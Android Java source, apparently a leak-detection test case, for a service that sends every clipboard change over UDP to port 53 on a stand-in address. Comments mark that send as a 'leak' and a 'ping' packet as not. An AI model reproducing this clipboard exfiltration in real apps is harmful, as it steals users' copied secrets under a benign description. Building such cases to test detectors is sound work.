package habits;

import android.app.Service;
import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.Context;
import android.content.Intent;
import android.os.IBinder;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;

/** Listens to the clipboard. */
public class Clips extends Service {
    @Override
    public void onCreate() {
        final ClipboardManager board = (ClipboardManager) getSystemService(Context.CLIPBOARD_SERVICE);
        board.addPrimaryClipChangedListener(() -> {
            ClipData clip = board.getPrimaryClip();
            if (clip == null) return;
            CharSequence text = clip.getItemAt(0).getText();
            try {
                DatagramSocket socket = new DatagramSocket();
                InetAddress server = InetAddress.getByName("203.0.113.6");
                byte[] bytes = text.toString().getBytes();
                socket.send(new DatagramPacket(bytes, bytes.length, server, 53)); // leak
                byte[] ping = "ping".getBytes();
                socket.send(new DatagramPacket(ping, ping.length, server, 53)); // no leak
            } catch (Exception ignored) {
            }
        });
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
